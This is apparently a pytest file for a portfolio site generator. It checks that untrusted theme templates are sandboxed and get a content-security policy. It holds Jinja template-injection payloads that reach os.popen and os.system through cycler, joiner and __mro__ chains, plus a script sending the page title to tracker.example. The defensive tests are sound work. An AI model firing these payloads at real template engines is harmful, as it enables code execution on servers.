"""A repository's theme is untrusted too: templates render in Jinja's sandbox, never running code."""

from __future__ import annotations

from pathlib import Path

import pytest

from generator.render.portfolio.policy import PAGE_POLICY, policy_meta
from tests.helpers import run_cli

PAYLOADS = {
    "cycler-globals": '{{ cycler.__init__.__globals__.os.popen("touch PWNED").read() }}',
    "string-mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "joiner-globals": '{{ joiner.__init__.__globals__["os"].system("touch PWNED") }}',
    "format-escape": '{{ "{0.__class__.__init__.__globals__}".format(cycler) }}',
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_template_that_reaches_for_python_is_a_located_error(minimal: Path, payload: str) -> None:
    theme = minimal / "themes" / "portfolio"
    theme.mkdir(parents=True)
    (theme / "portfolio.html").write_text(
        '{% extends "base.html" %}\n{% block body %}\n<p>' + payload + "</p>\n{% endblock %}\n", encoding="utf-8")
    result = run_cli("build", "--root", minimal, "--no-site", "--no-pdf")
    assert result.exit_code == 1, result.output
    assert not (minimal / "PWNED").exists() and not Path("PWNED").exists()
    assert "Traceback" not in result.output
    assert "themes/portfolio/portfolio.html:3: the theme template 'portfolio.html' tried something " \
           "templates may not do (" in result.output
    assert "hint: templates may only show the values they are given" in result.output


def test_a_report_template_is_sandboxed_too(minimal: Path) -> None:
    theme = minimal / "themes" / "reports"
    theme.mkdir(parents=True)
    (theme / "teams_index.html").write_text(
        "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}\n", encoding="utf-8")
    result = run_cli("build", "--root", minimal, "--no-site", "--no-pdf", "--audience", "teams")
    assert not (minimal / "PWNED").exists()
    assert "Traceback" not in result.output
    assert "teams_index.html:1: the theme template 'teams_index.html' tried something" in result.output


def test_a_theme_without_the_policy_still_gets_it(minimal: Path) -> None:
    theme = minimal / "themes" / "portfolio"
    theme.mkdir(parents=True)
    (theme / "base.html").write_text(
        '<!DOCTYPE html>\n<html lang="{{ language }}">\n<head>\n<title>{% block title %}{% endblock %}</title>\n'
        '<meta http-equiv="Content-Security-Policy" content="default-src *">\n'
        '<script>new Image().src = "https://tracker.example/?" + document.title</script>\n</head>\n'
        "<body>{% block body %}{% endblock %}</body>\n</html>\n", encoding="utf-8")
    result = run_cli("build", "--root", minimal, "--no-site", "--no-pdf")
    assert result.exit_code == 0, result.output
    page = (minimal / "build/portfolios/ada/index.html").read_text(encoding="utf-8")
    assert page.startswith(f'<!DOCTYPE html>\n<html lang="en">\n<head>{policy_meta(PAGE_POLICY)}\n<title>')
